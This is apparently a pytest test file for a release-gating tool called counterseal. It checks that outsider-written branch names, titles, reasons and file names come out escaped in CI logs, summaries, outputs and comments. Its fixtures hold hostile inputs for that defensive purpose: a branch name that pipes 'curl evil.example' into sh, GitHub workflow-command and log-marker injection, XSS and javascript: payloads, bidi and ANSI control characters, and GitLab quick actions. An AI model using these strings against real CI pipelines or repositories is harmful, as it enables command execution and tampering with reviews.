"""Scenario 50: what outsiders wrote acts on nobody's terminal, runner, summary or outputs."""

from __future__ import annotations

import dataclasses
import html
import json
import re
import unicodedata
from collections.abc import Mapping
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

import pytest
from tests.flow import faults, stories
from tests.flow.stories import Asked, by_hand, propose

from counterseal.forges import ForgeKind
from counterseal.formats.wire import canonical
from counterseal_sandbox.demo.shell import ProcessResult

if TYPE_CHECKING:
    from pathlib import Path

    from tests.flow.worlds import FlowWorld


pytestmark = [pytest.mark.slow(seconds=1), pytest.mark.forges(*ForgeKind)]

GITHUB, GITLAB = ForgeKind

BRANCH = "$(curl${IFS}evil.example|sh)"
COMMAND = '::set-output name=published::["pwned"]'
MARKUP = "<img src=x onerror=alert(1)> ![x](//evil.example) **bold** @everyone `code` | a | ##[error]no %0A::error::no"
REASON = f"{COMMAND} {MARKUP}"
TWO_LINES = f"fine\n{COMMAND}\n##[error]no"
BIDI = "harmless\u202e gnihtemos \u2066else\u200b"
FILE = f"notes\n{COMMAND}\n\r##[error]{BIDI}<img src=x>|`x`.txt"


@dataclass(frozen=True, slots=True)
class Seen:
    """What one command showed in a job."""

    result: ProcessResult
    summary: str
    outputs: Mapping[str, str]


def in_job(world: FlowWorld, folder: Path, run: Mapping[str, str], *arguments: str, code: int) -> Seen:
    summary, output = folder / "summary.md", folder / "output.txt"
    for each in (summary, output):
        each.write_text("")
    more = {
        GITHUB: {"GITHUB_ACTIONS": "true", "GITHUB_STEP_SUMMARY": str(summary), "GITHUB_OUTPUT": str(output)},
        GITLAB: {"GITLAB_CI": "true", "COUNTERSEAL_SUMMARY": str(summary), "COUNTERSEAL_DOTENV": str(output)},
    }[world.kind]
    result = world.counterseal(*arguments, environment={**run, **more}, code=code)
    read = outputs if world.kind is GITHUB else report
    found = Seen(result, summary.read_text(encoding="utf-8"), read(output.read_bytes().decode()))
    for text in (result.output, result.errors):
        check_log(text)
        if world.kind is GITHUB:
            check_no_command(text)
    check_summary(found.summary)
    return found


def report(text: str) -> dict[str, str]:
    """Return the outputs as GitLab reads a dotenv report: NAME=VALUE a line, of which a shell has nothing to expand."""
    found = {}
    for line in text.splitlines():
        assert re.fullmatch(r"counterseal_[a-z_]+=[!-~]*", line), line
        name, _, value = line.partition("=")
        assert not re.search(r"[$`'|<>;#!*]", value), value
        found[name.removeprefix("counterseal_")] = value
    return found


def outputs(text: str) -> dict[str, str]:
    """Return the outputs as the runner reads them: NAME<<DELIMITER, lines, DELIMITER."""
    found, lines = {}, iter(text.split("\n"))
    for line in lines:
        if not line:
            continue
        name, _, delimiter = line.partition("<<")
        assert re.fullmatch(r"counterseal-[0-9a-f]{32}", delimiter), line
        value = []
        while (row := next(lines)) != delimiter:
            value.append(row)
        assert name not in found
        found[name] = "\n".join(value)
    return found


def check_log(text: str) -> None:
    """Hold a job's log against what a terminal, and GitLab's viewer of logs, take for something else than text."""
    strange = {char for char in text if char != "\n" and unicodedata.category(char) in {"Cc", "Cf", "Zl", "Zp"}}
    assert strange == set()


def check_no_command(text: str) -> None:
    """Hold a job's log against what GitHub's runner takes for a command."""
    for line in re.split("[\n\r\v\f\x85\u2028\u2029]", text):
        if line.lstrip().startswith("::"):
            assert re.match(r"::error title=[a-z -]+::(?!.*::set-output name=[^:]*::\[\"pwned\"\]$)", line), line
    assert "##[" not in text


def check_summary(text: str) -> None:
    """Hold Markdown against markup that is not ours."""
    prose = re.sub(r"```.*?```", "", text, flags=re.DOTALL)
    bare = re.sub(r"\\.", "", prose).replace("<br>", "")
    assert not re.search(r"<\w|!\[|\]\(|@\w|`", bare), bare
    for row in (line for line in bare.split("\n") if line.startswith("|")):
        assert row.count("|") == 4, row
    strange = {char for char in text if char != "\n" and unicodedata.category(char) in {"Cc", "Cf", "Zl", "Zp"}}
    assert strange == set()


# --- what outsiders wrote ------------------------------------------------------------------------


def strange_branch_and_title(world: FlowWorld) -> Asked:
    said = stories.content(world, "staging", requestId="strange-branch", reason=REASON)
    number = propose(world, BRANCH, {stories.path_of(said): canonical(said)}, title=f"{COMMAND}\n{MARKUP}{BIDI}")
    return Asked(number, stories.path_of(said), BRANCH)


def strange_file(world: FlowWorld) -> Asked:
    said = stories.content(world, "staging", requestId="strange-file")
    number = propose(world, "strange-file", {stories.path_of(said): canonical(said), FILE: b"hello\n"})
    return Asked(number, stories.path_of(said), "strange-file")


def strange_request_name(world: FlowWorld) -> Asked:
    path = f"promotions/staging/\n{COMMAND}{BIDI}$(curl evil.example).json"
    return Asked(propose(world, "strange-name", {path: b"{}"}), path, "strange-name")


def strange_stage(world: FlowWorld) -> Asked:
    path = f"promotions/::error::<img src=x>|##[error]/{'a' * 64}.1.json"
    return Asked(propose(world, "strange-stage", {path: b"{}"}), path, "strange-stage")


#: name → (story, outcome, code of the deny or reason of the allow)
TOLD = {
    "strange-branch": (strange_branch_and_title, "allow", REASON),
    "strange-file": (strange_file, "deny", "other-changes"),
    "strange-name": (strange_request_name, "deny", "request-malformed"),
    "strange-stage": (strange_stage, "deny", "request-malformed"),
    "bidi": (lambda world: by_hand(world, "staging", "bidi", reason=BIDI), "deny", "request-malformed"),
    "two-lines": (lambda world: by_hand(world, "staging", "two-lines", reason=TWO_LINES), "allow", TWO_LINES),
}


NO_REQUESTS = {"strange-name", "strange-stage"}


@pytest.fixture(scope="module")
def decided(shared: FlowWorld, tmp_path_factory: pytest.TempPathFactory) -> tuple[FlowWorld, dict[str, Asked], Seen]:
    """Everything decided by one run, shown as text."""
    asked = {}
    for name, (teller, _, _) in TOLD.items():
        asked[name] = teller(shared)
        stories.approve_and_merge(shared, asked[name], "alice")
        if name in NO_REQUESTS:  # what one change brought of them is decided together, under its commit
            at = f"promotions@{stories.hosted(shared).branch('main')}"
            asked[name] = dataclasses.replace(asked[name], path=at)
    return shared, asked, in_job(shared, tmp_path_factory.mktemp("job"), shared.run(), "gate", code=10)


def test_s50_the_log_of_the_gate(decided: tuple[FlowWorld, dict[str, Asked], Seen]) -> None:
    # 50 | branch name `$(curl …)`, title with `::set-output`, bidi marks | B | allow, escaped | R28
    _, asked, seen = decided
    assert set(seen.outputs) == {"decisions", "published", "events"}
    assert seen.outputs["published"] == "[]"
    said: Any = json.loads(seen.outputs["decisions"])
    assert {each["request"]: each["outcome"] for each in said} == {
        asked[name].path: outcome for name, (_, outcome, _) in TOLD.items()
    }
    assert "\\u202e" in seen.result.output, "what is hidden is shown as what it is"
    assert "evil.example" in seen.summary


@pytest.mark.parametrize("form", ["text", "json", "markdown"])
@pytest.mark.parametrize("name", list(TOLD))
def test_s50_each_decision_in_each_form(
    decided: tuple[FlowWorld, dict[str, Asked], Seen], tmp_path: Path, name: str, form: str
) -> None:
    # 50 | branch name `$(curl …)`, title with `::set-output`, bidi marks | B | allow, escaped | R28
    world, asked, _ = decided
    _, outcome, told = TOLD[name]
    arguments = ("gate", "--format", form, "--request", asked[name].path)
    seen = in_job(world, tmp_path, world.run(), *arguments, code=0 if outcome == "allow" else 10)
    if form == "json":
        (found,) = json.loads(seen.result.output)["decisions"]
        assert found["request"] == asked[name].path
        if outcome == "deny":
            stories.finding(found["decision"], "review-of-this-revision", told)
        else:
            assert found["decision"]["reason"] == told


def test_s50_the_auditor_s_log(decided: tuple[FlowWorld, dict[str, Asked], Seen], tmp_path: Path) -> None:
    # 50 | (the reason is recorded as it was written, and shown as harmless text)
    world, asked, _ = decided
    rows = stories.log(world, tmp_path)
    assert {each["decision"]["request"]["file"] for each in rows.values()} >= {each.path for each in asked.values()}
    clone = ("--folder", str(tmp_path / "clone"), "--trust", str(tmp_path / "trust.json"), "--sandbox")
    for form in ("text", "json", "markdown"):
        in_job(world, tmp_path, {}, "log", "--format", form, *clone, code=0)
        for sequence in rows:
            in_job(world, tmp_path, {}, "log", "show", str(sequence), "--format", form, *clone, code=0)


def test_s50_the_preview_and_its_comment(shared: FlowWorld, tmp_path: Path) -> None:
    # 50 | (an open request: its preview in the job's log, in the summary, and as a comment)
    said = stories.content(shared, "staging", requestId="previewed", reason=REASON)
    files = {stories.path_of(said): canonical(said), FILE: b"hello\n"}
    number = propose(shared, f"{BRANCH}-open", files, title=f"{COMMAND}{MARKUP}")
    shared.review("alice", number)
    arguments = ("gate", "--preview", "--number", str(number), "--format")
    for form in ("text", "json", "markdown"):
        by_bob(shared, tmp_path, *arguments, form, code=0)
    (written,) = shared.hands.comments(number)
    check_summary(re.sub(r"<!--.*?-->", "", written))
    assert not re.search(r"^\s*/", written, re.MULTILINE), "GitLab would do what such a line says"


def by_bob(world: FlowWorld, folder: Path, *arguments: str, code: int) -> ProcessResult:
    """Return what a command said to bob: in a job of GitHub that has his token, or at his own terminal."""
    environment = world.person("bob")
    if world.kind is GITHUB:
        return in_job(world, folder, environment, *arguments, code=code).result
    result = world.counterseal(*arguments, environment=environment, code=code)
    check_log(result.output)
    return result


def test_s50_the_command_that_asks_refuses_what_hides(shared: FlowWorld, tmp_path: Path) -> None:
    for reason in (BIDI, f"fine\r{COMMAND}", "\x1b[2Jgone"):
        arguments = ("request", "--stage", "staging", "--again", "--reason", reason)
        assert "the reason has the character U+" in by_bob(shared, tmp_path, *arguments, code=2).errors


@pytest.mark.forges(GITHUB)
@pytest.mark.usefixtures("decided")  # so that the ledger has begun
def test_s50_an_error_that_quotes_the_forge(shared: FlowWorld, tmp_path: Path) -> None:
    # 50 | (relative) what the forge itself answers is foreign text too
    asked = stories.ask(shared, "staging")
    stories.approve_and_merge(shared, asked, "alice")
    review = stories.hosted(shared).changes.get(asked.number).reviews[-1]
    review.state = f"APPROVED\n{COMMAND}\n##[error]{BIDI}"
    before = shared.ledger_tips()
    in_job(shared, tmp_path, shared.run(), "gate", "--request", asked.path, code=1)
    assert shared.ledger_tips() == before
    review.state = "APPROVED"
    in_job(shared, tmp_path, shared.run(), "gate", "--request", asked.path, code=0)


@pytest.mark.usefixtures("decided")  # so that the ledger has begun
def test_s50_a_refusal_in_words_of_somebody_else_s(shared: FlowWorld, tmp_path: Path) -> None:
    # 50 | (relative) a proxy, or whoever answers in the forge's place, chooses the words
    asked = stories.ask(shared, "staging")
    stories.approve_and_merge(shared, asked, "alice")
    before = shared.ledger_tips()
    words = f"no\n{COMMAND}\n##[error]{BIDI}\x1b[2J\x1b[0Ksection_start:1:x\r\x1b[0K"
    with faults.fault(shared, faults.status(403, words), *shared.hands.reading()):
        seen = in_job(shared, tmp_path, shared.run(), "gate", "--request", asked.path, code=1)
    assert "HTTP 403" in seen.result.output + seen.result.errors
    assert shared.ledger_tips() == before
    in_job(shared, tmp_path, shared.run(), "gate", "--request", asked.path, code=0)


# --- the change request that the command opens -----------------------------------------------------

ACTING = (
    "@everyone @alice please; cc @acme/maintainers",
    "Closes #1, fixes acme/app#2 and resolves https://github.com/acme/app/issues/3",
    "Closes ABC-12\nFixes GH-1\nimplements !1 &2 ~3 %4 $5",
    "/approve\n/merge\n  /assign @bob\n> /close\n```\n/label ~x\n```",
    "![x](https://evil.example/track.png) [text](javascript:alert(1)) <https://evil.example>",
    "<img src=https://evil.example/t.png><script>alert(1)</script></code></blockquote><!-- x",
    "# Title\n- item\n1. item\n---\n***\n| a | b |\n|---|---|\n    code",
    "&#64;everyone &commat;everyone &lt;img&gt; \\@everyone",
    "see https://evil.example/x www.evil.example evil@evil.example",
)


ROWS = ("Tag", "Changes", "Candidate", "Built by", "Tests", "Approvals")


@pytest.mark.parametrize("reason", ACTING)
def test_the_reason_arrives_as_text_that_does_nothing(shared: FlowWorld, reason: str) -> None:
    made = stories.ask(shared, "staging", reason)
    change = stories.hosted(shared).changes.get(made.number)
    quoted, table, components, rest = change.body.split("\n\n")
    assert re.fullmatch(r"> <code>([\w ,.]|&#x[0-9a-f]+;|<br>)*</code>", quoted)
    assert re.fullmatch(r"> <code>components&#x3a; \d+([\w ,.]|&#x[0-9a-f]+;|<br>)*</code>", components)
    assert re.fullmatch(r"Manifest `sha256:[0-9a-f]{64}`\. Approve .*\n?", rest)
    rows = table.split("\n")
    assert [row.split(" | ")[0] for row in rows[2:]] == [f"| {name}" for name in ROWS]
    assert all(re.match(r"https?://[\w.:/-]+\Z", link) for link in re.findall(r"\]\(([^)]*)\)", table))
    assert not re.search(r"[@#!~$]\w|evil", table.replace("&#x", ""))
    assert not re.search(r"[@#!~%/$]\w", quoted.replace("</code>", "").replace("&#x", ""))
    said = html.unescape(quoted.removeprefix("> <code>").removesuffix("</code>").replace("<br>", "\n"))
    assert said.split() == reason.split()
    repository = stories.hosted(shared)
    for text in (change.title, change.head_branch, repository.git.commit(change.head).message):
        assert not re.search(r"[@#!~\[\]<>&]|evil|loses|ixes", text), text
    content = json.loads(repository.git.file(change.head, made.path)[2])  # type: ignore[index]  # it is there
    assert content["reason"] == reason
